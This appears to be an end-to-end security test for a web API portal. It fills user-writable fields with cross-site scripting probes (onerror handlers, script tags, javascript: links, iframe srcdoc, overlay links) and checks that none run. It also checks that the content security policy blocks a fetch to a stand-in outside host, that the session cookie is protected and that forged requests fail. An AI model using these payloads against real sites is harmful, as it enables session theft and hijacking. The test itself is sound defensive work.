// What others write is text: none of it runs, on any page where it is shown, even in a browser that would let
// it. And the page's own policy lets nothing in; its session is out of reach of scripts and of other sites.
import assert from "node:assert/strict";
import { document } from "../steps/rest.mjs";

export const says = "nothing that others write runs, and the page lets nothing else in";
const NAME = "probed";
/** What would run if it were taken for markup, and tells where. */
const probe = (where) =>
  `${where} <img src=x onerror="window.ran='${where}'"><svg onload="window.ran='${where}'"></svg><script>window.ran='${where}'</script> "'\`\${window.ran=1}{{7*7}}`;
/** The same where it is taken for Markdown, with what that has of its own. */
const marked = (where) =>
  `# ${where}\n\n${probe(where)}\n\n[a link](javascript:window.ran='${where}') [another](data:text/html,<script>1</script>) ![x](x" onerror="window.ran='${where}') <iframe srcdoc="<script>parent.ran='${where}'</script>"></iframe> <form action=/api/v1/session><button>ok</button></form> <a href="https://elsewhere.example" style="position:fixed;inset:0">over all</a>`;

export default async function safe(world) {
  await write(world);
  const count = await texts(world);
  await policy(world);
  await session(world);
  return `${count} pages with probes`;
}

/** Everything that somebody else can write says the probe. */
async function write(world) {
  const [omar, dana, ada] = [await world.rest("omar"), await world.rest("dana"), await world.rest("ada")];
  const orders = await omar("GET", "/endpoints/orders");
  await ada("POST", "/apply", [
    document("Team", NAME, { title: probe("team"), email: "probed@example.com" }),
    document("Domain", NAME, { title: probe("domain"), description: probe("domain") }),
    document("User", NAME, { title: probe("user"), roles: ["developer"], teams: [NAME] }),
  ]);
  const property = { type: "string", title: probe("schema"), description: probe("schema"), examples: [probe("schema")] };
  await omar("POST", "/apply", [
    document("Policy", NAME, { owner: "shop", description: probe("policy"), rules: [{ replace: { path: "$.orderId", value: probe("rule") } }] }),
    document("Endpoint", NAME, {
      ...orders.spec, address: NAME, title: probe("title"), description: probe("description"), documentation: marked("documentation"),
      tags: [probe("tag").slice(0, 60)], contact: { name: probe("contact"), email: "probed@example.com" }, domain: NAME,
      schema: { type: "jsonSchema", definition: { type: "object", properties: { [probe("field")]: property } } },
      samples: [{ name: "one", summary: probe("sample"), value: { text: probe("sample") } }],
    }),
    document("Plan", NAME, { endpoint: NAME, policies: [NAME], approval: "owner", terms: marked("terms") }),
  ]);
  await dana("POST", "/apply", [
    document("Application", NAME, { owner: "data", description: probe("application") }),
    document("Subscription", NAME, { application: NAME, endpoint: NAME, plan: NAME, justification: probe("justification") }),
    document("Application", `${NAME}-too`, { owner: "data" }),
    document("Subscription", `${NAME}-too`, { application: `${NAME}-too`, endpoint: NAME, plan: NAME, justification: probe("justification") }),
  ]);
  await omar("POST", `/subscriptions/${NAME}-too/reject`, { reason: probe("reason") });
}

/** Where each is shown, with the page's own policy out of the way. */
async function texts(world) {
  const pages = {
    Dana: [
      ["", "Hello"], ["endpoints", "title"], ["endpoints?layout=table", "title"], [`endpoints/${NAME}`, "description"],
      [`endpoints/${NAME}/schema`, "schema"], [`endpoints/${NAME}/docs`, "documentation"], [`endpoints/${NAME}/policies`, "title <img"],
      [`endpoints/${NAME}/subscribe`, "terms"], [`applications/${NAME}`, "application"], [`applications/${NAME}-too`, "reason"],
    ],
    Omar: [
      ["approvals", "justification"], ["approvals?tab=decided", "reason"], [`subscribers?endpoint=${NAME}`, "title"], [`policies/${NAME}`, "policy"],
      [`edit/endpoints/${NAME}`, "description"], [`endpoints/${NAME}/deprecate`, "title"],
    ],
    Ada: [["people?tab=teams", "team"], ["audit", "open record"], ["health", "replica"]],
  };
  let count = 0;
  for (const [who, list] of Object.entries(pages)) {
    const one = await world.person(who, { bypassCSP: true });
    const { page } = one;
    // A probe's image that is not there would be told by the browser.
    for (const [path, shows] of list) {
      await one.go(path);
      if (path === "approvals") await page.getByRole("button", { name: new RegExp(`^Review ${NAME} for`) }).click();
      if (path === "approvals") await one.quiet();
      await page.locator("main, [role=dialog]").filter({ hasText: shows }).first().waitFor();
      await nothingRan(page, `${who} at /${path}`);
      count += 1;
    }
    await page.keyboard.press("ControlOrMeta+k");
    await page.keyboard.type("description");
    await page.getByRole("dialog").getByText(/title <img/).first().waitFor();
    await nothingRan(page, `${who} searches`);
    assert.deepEqual(one.wrong, [], who);
    await one.leave();
  }
  return count;
}

async function nothingRan(page, where) {
  const found = await page.evaluate(() => {
    const handlers = [...document.querySelectorAll("*")].filter((one) => one.getAttributeNames().some((name) => name.startsWith("on")));
    const links = [...document.querySelectorAll("[href], [src], [action]")].filter((one) =>
      /^\s*(javascript|data:text)/i.test(one.getAttribute("href") ?? one.getAttribute("src") ?? one.getAttribute("action") ?? ""));
    const foreign = document.querySelectorAll("main iframe, main form[action], main script, main object, main embed, main [style*='inset:0']");
    return { ran: window.ran, made: [...handlers, ...links, ...foreign].map((one) => one.outerHTML.slice(0, 200)) };
  });
  assert.deepEqual(found, { ran: undefined, made: [] }, where);
}

/** Whatever gets into the page all the same, its policy keeps from running. */
async function policy(world) {
  const one = await world.person("Dana");
  const { page } = one;
  one.allow(/Content Security Policy|Refused to|violates|Failed to load resource|ERR_/i);
  await one.go("endpoints");
  const done = await page.evaluate(async () => {
    const ran = {};
    window.tell = (what) => (ran[what] = true);
    const blocked = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
    const add = (tag, parts) => document.body.append(Object.assign(document.createElement(tag), parts));
    add("script", { textContent: "window.tell('inline')" });
    add("script", { src: "data:text/javascript,window.tell('data')" });
    add("script", { src: URL.createObjectURL(new Blob(["window.tell('blob')"], { type: "text/javascript" })) });
    add("div", { innerHTML: "<img src=x onerror=\"window.tell('handler')\">" });
    add("iframe", { src: "https://elsewhere.example/" });
    add("base", { href: "https://elsewhere.example/" });
    add("object", { data: "https://elsewhere.example/" });
    // Where nobody but the page evaluates.
    setTimeout(() => {
      try {
        (0, eval)("window.tell('eval')");
      } catch {
        blocked.push("eval");
      }
    });
    await fetch("https://elsewhere.example/?stolen").catch(() => blocked.push("fetch"));
    await new Promise((resume) => setTimeout(resume, 700));
    return { ran, blocked: [...new Set(blocked)], base: document.baseURI === location.href };
  });
  assert.deepEqual({ ran: done.ran, base: done.base }, { ran: {}, base: true });
  for (const directive of ["script-src-elem", "script-src-attr", "frame-src", "base-uri", "object-src", "connect-src", "eval"]) {
    assert.ok(done.blocked.includes(directive), `${directive} is blocked: ${done.blocked}`);
  }
  await one.leave();
}

/** The session is out of a script's reach, and a change needs more than the cookie. */
async function session(world) {
  const one = await world.person("Dana");
  const { page, context } = one;
  one.allow(/Failed to load resource/);
  assert.equal(await page.evaluate(() => document.cookie), "", "no script reads the session");
  const [cookie, ...more] = await context.cookies();
  assert.deepEqual(more, []);
  assert.ok(cookie.httpOnly && ["Strict", "Lax"].includes(cookie.sameSite), JSON.stringify(cookie));
  const forged = (headers) =>
    page.evaluate(async (headers) => {
      const body = JSON.stringify([]);
      return (await fetch("/api/v1/apply", { method: "POST", headers: { "content-type": "application/json", ...headers }, body })).status;
    }, headers);
  assert.equal(await forged({}), 403, "a change without its token");
  assert.equal(await forged({ "x-csrf-token": "made-up" }), 403, "a change with another token");
  // A page of another site, with the cookie that the browser adds by itself.
  const answer = await fetch(world.url("/api/v1/apply"), {
    method: "POST",
    headers: { cookie: `${cookie.name}=${cookie.value}`, "content-type": "application/json", origin: "https://elsewhere.example", "sec-fetch-site": "cross-site" },
    body: "[]",
  });
  assert.equal(answer.status, 403, "a change from another site");
  const framed = await fetch(world.url("/"));
  assert.match(framed.headers.get("content-security-policy") ?? "", /frame-ancestors 'none'/);
  await one.leave();
}
